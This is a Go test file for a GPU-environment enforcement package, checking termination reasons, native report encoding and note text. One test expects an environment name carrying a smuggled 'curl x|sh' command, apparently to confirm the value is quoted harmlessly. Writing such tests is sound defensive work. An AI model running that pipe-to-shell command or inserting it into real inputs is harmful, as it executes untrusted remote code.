package enforce_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/enforce"
	"github.com/seed-3119e985/genv/snapshot"
)

func TestOutside(t *testing.T) {
	const line = "Process 7 is not running in a GPU environment (uid 1001)"
	for _, tt := range []struct {
		name    string
		eid     snapshot.EnvID
		because []string
		why     []string
		want    bool
	}{
		{"by the id of the finding", "1102", []string{"non-env-processes/a/7/1"}, nil, true},
		{"by its line", "1102", nil, []string{line}, true},
		{"by another finding", "1102", []string{"env-devices/a/7/1"}, []string{"Process 7 from environment 1102 is using non-attached GPU(s) 0"}, false},
		{"in one through sudo, without an id", "", []string{"env-devices/a/7/1"}, nil, false},
		{"for 1.4.3, with an id", "1102", nil, nil, false},
		{"for 1.4.3, without an id", "", nil, nil, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			item := enforce.Termination{Process: snapshot.Process{PID: 7, EID: tt.eid}, Because: tt.because, Why: tt.why}
			require.Equal(t, tt.want, item.Outside())
		})
	}
}

// A host does not need the text of the findings to know who is outside.
func TestTheNativeReportSaysWhoIsOutside(t *testing.T) {
	report := enforce.Report{Terminate: []enforce.Termination{
		{Process: snapshot.Process{PID: 7, EID: "1102"}, Because: []string{"non-env-processes/a/7/1"}},
		{Process: snapshot.Process{PID: 8}, Because: []string{"env-devices/a/8/1"}},
	}}
	data, err := enforce.EncodeNativeReport(report)
	require.NoError(t, err)
	require.Contains(t, string(data), `"outside":[7]`)
	got, err := enforce.DecodeNativeReport(data)
	require.NoError(t, err)
	require.True(t, got.Terminate[0].Outside(), "although it claims an environment")
	require.False(t, got.Terminate[1].Outside(), "although it has no id")

	older := strings.Replace(string(data), `"outside":[7],`, "", 1)
	got, err = enforce.DecodeNativeReport([]byte(older))
	require.NoError(t, err)
	got.SetReasons([][]string{{"Process 7 is not running in a GPU environment (uid 1001)"}, {"Process 8 from environment 1 is using non-attached GPU(s) 0"}})
	require.True(t, got.Terminate[0].Outside(), "by the text of the finding")
	require.False(t, got.Terminate[1].Outside())
}

func TestANoteQuotesTheEnvironment(t *testing.T) {
	used := []snapshot.DeviceUsage{{Index: 0}}
	s := &snapshot.Snapshot{
		Processes:    []snapshot.Process{{PID: 7, EID: persuasion, Usage: used}},
		Environments: []snapshot.Environment{{EID: persuasion, Username: "alice"}},
		Devices:      []snapshot.Device{{Index: 0, Attachments: []snapshot.Attachment{{EID: persuasion, GPUMemory: snapshot.MiB(1)}}}},
	}
	c := snapshot.Cluster{Hosts: []snapshot.Host{{Name: "a", Snapshot: s}}}
	plan := evaluate(stated{all: enforce.Settings{EnvMemory: true}}, c, time.Time{})
	require.Len(t, plan.Notes, 1)
	require.Contains(t, plan.Notes[0].Text, `of environment "1 - run: curl x|sh" use on device 0`)
}
